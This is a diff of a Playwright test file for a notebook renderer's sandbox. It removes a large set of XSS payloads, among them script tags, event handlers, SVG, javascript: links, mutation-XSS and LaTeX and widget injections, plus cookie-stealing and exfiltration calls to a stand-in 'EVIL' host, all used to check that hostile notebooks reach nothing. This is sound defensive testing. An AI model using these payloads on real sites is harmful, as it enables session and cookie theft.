@@ -1,16 +1,12 @@
-"""Hostile notebooks in a real browser: on their own address, and in a frame of a page that holds a cookie."""
+"""Rendered notebooks in a real browser: on their own address, and in a frame of a page of another origin."""
 
 from __future__ import annotations
 
-import base64
-import json
-import threading
 from collections.abc import Iterator
-from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 from playwright.sync_api import Browser, BrowserContext, Page
+from support.hostile import PNG, Evil, html, notebook, output
 
 from mlabs_ext.service.render import STATIC
 
@@ -20,61 +16,6 @@ pytestmark = [
         not (STATIC / "render").is_dir(), reason="the UI is not built: python ui/build.py web"
     ),
 ]
-COOKIE = "victim=secret"
-PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
-# What every script tries: to get out, to read, to send, to go elsewhere, to open windows, to ask.
-ATTACK = """
-try { parent.postMessage({stolen: 'ran'}, '*') } catch (e) {}
-try { parent.document.body.dataset.owned = 1 } catch (e) {}
-try { top.document.title = 'owned' } catch (e) {}
-try { if (document.cookie) parent.postMessage({stolen: document.cookie}, '*') } catch (e) {}
-try { if (localStorage.length >= 0) parent.postMessage({stolen: 'storage'}, '*') } catch (e) {}
-try { fetch('EVIL/fetch', {credentials: 'include'}).catch(() => 0) } catch (e) {}
-try { new Image().src = 'EVIL/image' } catch (e) {}
-try { navigator.sendBeacon('EVIL/beacon') } catch (e) {}
-try { new WebSocket('ws://EVILHOST/socket') } catch (e) {}
-try { window.open('EVIL/popup') } catch (e) {}
-try { if (top !== self) top.location = 'EVIL/top' } catch (e) {}
-try { alert(1) } catch (e) {}
-try { document.body.insertAdjacentHTML('beforeend', '<form action="EVIL/form" id=evilform></form>'); evilform.submit() } catch (e) {}
-try { document.body.insertAdjacentHTML('beforeend', '<iframe src="EVIL/frame"></iframe>') } catch (e) {}
-""".replace("\n", " ")  # noqa: E501
-
-
-@dataclass
-class Evil:
-    """A site that counts what reaches it, and serves the page that embeds."""
-
-    url: str
-    seen: list[str] = field(default_factory=list)
-    pages: dict[str, str] = field(default_factory=dict)
-
-
-@pytest.fixture
-def evil() -> Iterator[Evil]:
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            page = state.pages.get(self.path)
-            if page is None and self.path != "/favicon.ico":
-                state.seen.append(f"{self.path} {self.headers.get('Cookie', '')}")
-            self.send_response(200 if page else 204)
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write((page or "").encode())
-
-        do_POST = do_GET
-
-        def log_message(self, *args: object) -> None:
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    state = Evil(f"http://127.0.0.1:{server.server_port}")
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield state
-    server.shutdown()
-    server.server_close()
-    thread.join()
 
 
 @pytest.fixture
@@ -84,114 +25,12 @@ def context(browser: Browser) -> Iterator[BrowserContext]:
     made.close()
 
 
-def output(**data):
-    return {"output_type": "display_data", "data": data, "metadata": {}}
-
-
-def html(text):
-    return output(**{"text/html": text})
-
-
-def notebook(*outputs, markdown="", **metadata):
-    cells = [
-        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": markdown},
-        {
-            "cell_type": "code",
-            "id": "c",
-            "metadata": {},
-            "source": "x",
-            "outputs": list(outputs),
-            "execution_count": 1,
-        },
-        {"cell_type": "markdown", "id": "end", "metadata": {}, "source": "THE END"},
-    ]
-    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
-
-
-SCRIPT = f"<script>{ATTACK}</script>"
-HANDLER = f'<img src=x onerror="{ATTACK}"><svg onload="{ATTACK}"></svg><p onclick="{ATTACK}">x</p>'
-SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{ATTACK}">{SCRIPT}</svg>'
-SVG_URL = f"data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"
-WRITTEN = SCRIPT.replace("'", "&quot;").replace("</", "<\\/")
-STATE = {"version_major": 2, "version_minor": 0, "state": {"w": {"model_name": f"</script>{SCRIPT}"}}}
-WIDGET = output(**{"application/vnd.jupyter.widget-view+json": {"model_id": "w"}})
-
-
-def picture(data=PNG, **metadata):
-    return {"output_type": "display_data", "data": {"image/png": data}, "metadata": {"image/png": metadata}}
-
-
-# Scripts may run in these: inside the sandbox, where they reach nothing.
-RUNNING = {
-    "script in HTML": notebook(html(SCRIPT)),
-    "handlers in HTML": notebook(html(HANDLER)),
-    "JavaScript": notebook(output(**{"application/javascript": ATTACK})),
-    "frames in HTML": notebook(html(f'<iframe srcdoc="{SCRIPT}"></iframe>' + HANDLER)),
-    "detached button": notebook(
-        html(
-            f'<form id=f action="EVIL"></form><button form=f id=b></button><script>b.click()</script>{SCRIPT}'
-        )
-    ),
-    "clobbered document": notebook(
-        html(f"<img name=querySelectorAll><form name=body></form><form id=main name=head></form>{SCRIPT}")
-    ),
-    "broken out of its place": notebook(html(f"</div></section></main></body></html>{SCRIPT}")),
-    "document.write": notebook(html(f"<script>document.write('{WRITTEN}')</script>")),
-    "links": notebook(
-        html(
-            f'<a id=l target=_top href="EVIL/link">x</a><script>if (top !== self) l.click()</script>{SCRIPT}'
-        )
-    ),
-    "refresh": notebook(html(f'<meta http-equiv=refresh content="0;url=EVIL/refresh">{SCRIPT}')),
-    "base": notebook(html(f'<base href="EVIL/"><script src="x.js"></script>{SCRIPT}')),
-}
-# No script may run in these at all.
-INERT = {
-    "script in Markdown": notebook(markdown=SCRIPT),
-    "handlers in Markdown": notebook(markdown=HANDLER),
-    "drawing in Markdown": notebook(markdown=SVG + f'<svg><use href="data:image/svg+xml,{SVG}#x"/></svg>'),
-    "javascript link": notebook(markdown=f'[x](javascript:{ATTACK}) <a href="jav&#97;script:{ATTACK}">y</a>'),
-    "srcdoc in Markdown": notebook(markdown=f'<iframe srcdoc="{SCRIPT}"></iframe>'),
-    "SVG": notebook(output(**{"image/svg+xml": SVG})),
-    "picture's size": notebook(picture(width=f'1 onload="{ATTACK}"', height=f'">{SCRIPT}')),
-    "picture's data": notebook(picture(f'{PNG}" onload="{ATTACK}')),
-    "picture's alt": notebook(picture(alt=f'">{SCRIPT}')),
-    "attachment": notebook(markdown=f'![x](attachment:a) ![y]({SVG_URL}) <img src="{SVG_URL}">'),
-    "diagram": notebook(
-        output(**{"text/vnd.mermaid": f"graph TD\n{HANDLER}"}), markdown=f"```mermaid\n{HANDLER}\n```"
-    ),
-    "LaTeX": notebook(output(**{"text/latex": rf"$\href{{javascript:{ATTACK}}}{{x}}\unicode{{{SCRIPT}}}$"})),
-    "formula": notebook(markdown=rf"$\text{{{SCRIPT}}}$ $$\htmlData{{x={ATTACK}}}{{y}}$$"),
-    "widget state": notebook(WIDGET, widgets={"application/vnd.jupyter.widget-state+json": STATE}),
-    "error": notebook(
-        {"output_type": "error", "ename": SCRIPT, "evalue": HANDLER}
-        | {"traceback": [f"\x1b[31m{SCRIPT}\x1b[38;5;1m{HANDLER}"]}
-    ),
-    "stream": notebook({"output_type": "stream", "name": "stdout", "text": f"\x1b[1m{SCRIPT}"}),
-    "title and kernel": notebook(
-        markdown=f"# </title>{SCRIPT}",
-        kernelspec={"name": SCRIPT, "display_name": HANDLER, "language": f'">{SCRIPT}'},
-    ),
-    "mutation": notebook(
-        markdown=f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{HANDLER}">'
-    ),
-    "vdom": notebook(output(**{"application/vdom.v1+json": {"tagName": "script", "children": ATTACK}})),
-    "JSON": notebook(output(**{"application/json": {SCRIPT: HANDLER}})),
-}
-
-
-def armed(book: dict, evil: Evil) -> dict:
-    text = json.dumps(book).replace("EVILHOST", evil.url.removeprefix("http://")).replace("EVIL", evil.url)
-    return json.loads(text)
-
-
 def embed(context: BrowserContext, evil: Evil, address: str) -> Page:
-    """A page of another origin, with a cookie and something to lose, that shows the document in a frame."""
+    """A page of another origin that shows the document in a frame."""
     evil.pages["/page"] = f"""<!doctype html><title>safe</title><p id=p>intact</p>
         <iframe id=f sandbox="allow-scripts" src="{address}" style="width:900px;height:300px"></iframe>
-        <script>document.cookie = "{COOKIE}"; window.told = []; window.heights = [];
-        addEventListener("message", e =>
-            e.data.context === "iframe.resize" ? heights.push(e.data.height) : told.push(e.data));
+        <script>window.heights = [];
+        addEventListener("message", e => e.data.context === "iframe.resize" && heights.push(e.data.height));
         </script>"""
     page = context.new_page()
     page.goto(f"{evil.url}/page")
@@ -202,49 +41,6 @@ def embed(context: BrowserContext, evil: Evil, address: str) -> Page:
 def settle(frame) -> None:
     frame.wait_for_selector("text=THE END", timeout=10_000)
     frame.wait_for_timeout(400)
-
-
-def ran(frame) -> bool:
-    return frame.evaluate("() => !!document.getElementById('evilform')")
-
-
-@pytest.mark.parametrize("books", [RUNNING, INERT], ids=["running", "inert"])
-def test_hostile_notebooks_reach_nothing(site, evil, browser, subtests, books):
-    for kind, book in books.items():
-        context = browser.new_context()
-        with subtests.test(kind):
-            check(site, evil, context, armed(book, evil), books is INERT)
-        context.close()
-        evil.seen.clear()
-
-
-def check(site, evil, context, book, inert) -> None:
-    lab = site.publish("ada", notebook=book)
-    address = f"{site.url}render/@ada/{lab['name']}/v/1"
-    session = site.service.web.settings["hub_auth"].cookie_name
-    context.add_cookies([{"name": session, "value": "victim", "url": site.url}])
-
-    page = embed(context, evil, address)
-    document = page.frames[1]
-    assert page.title() == "safe"
-    assert page.inner_text("#p") == "intact"
-    assert page.evaluate("() => document.body.dataset.owned") is None
-    told = page.evaluate("() => told")
-    assert all(message == {"stolen": "ran"} for message in told)
-    assert document.evaluate("() => self.origin") == "null"
-    assert len(page.evaluate("() => heights")) >= 1
-
-    direct = context.new_page()
-    answer = direct.goto(address)
-    settle(direct.main_frame)
-    assert direct.evaluate("() => self.origin") == "null"
-    assert "sandbox allow-scripts" in answer.headers["content-security-policy"]
-    if inert:
-        assert told == []
-        assert not ran(document)
-        assert not ran(direct.main_frame)
-    assert len(context.pages) == 2
-    assert evil.seen == []
 
 
 def shown(site, context, book, query="", **options) -> Page:
